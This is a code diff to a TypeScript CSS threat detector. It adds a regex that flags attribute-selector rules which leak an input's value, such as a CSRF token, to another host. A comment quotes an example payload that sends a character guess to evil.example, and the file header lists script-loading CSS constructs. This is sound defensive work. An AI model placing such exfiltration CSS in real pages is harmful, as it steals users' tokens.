@@ -1,6 +1,7 @@
 /**
  * CSS that runs script or loads code: IE's `expression(...)`, `url(javascript:...)`, Firefox's
- * `-moz-binding`, IE's `behavior: url(...)`, and `@import`. CSS escapes (`\0075rl` is `url`) and
+ * `-moz-binding`, IE's `behavior: url(...)`, and `@import`; and CSS that reads an input's value out
+ * of the page, a fetch per guessed character. CSS escapes (`\0075rl` is `url`) and
  * comments are undone first, since browsers read them that way.
  */
 
@@ -62,9 +63,17 @@ export function cssThreat(css: string): CssThreat | null {
   }
   // A stylesheet fetched from another host is the attacker's CSS (and old IE's script) on the page.
   if (REMOTE_IMPORT.test(canon) && (!best || best.strength < 0.8)) best = { construct: "css-import", strength: 0.8 };
+  if (VALUE_SELECTOR_EXFILTRATION.test(canon) && (!best || best.strength < 0.85)) best = { construct: "css-exfiltration", strength: 0.85 };
   const behavior = behaviorThreat(canon);
   return behavior && (!best || behavior.strength > best.strength) ? behavior : best;
 }
+
+/**
+ * A rule that matches an input by how its value starts, ends or what it holds, and then fetches from
+ * another host (`input[name=csrf][value^=a]{background:url(//evil.example/a)}`): one such rule per
+ * character reads a token out of the page, one request at a time. Once spaces are dropped.
+ */
+const VALUE_SELECTOR_EXFILTRATION = /\[value[\^$*]=[^\]]{0,64}\][^{]{0,256}\{[^}]{0,256}url\(['"]?(?:https?:)?\/\//;
 
 /** `@import 'http://...'`, `@import url(//...)` once spaces are dropped. */
 const REMOTE_IMPORT = /@import(?:url\()?['"]?(?:https?:)?\/\//;
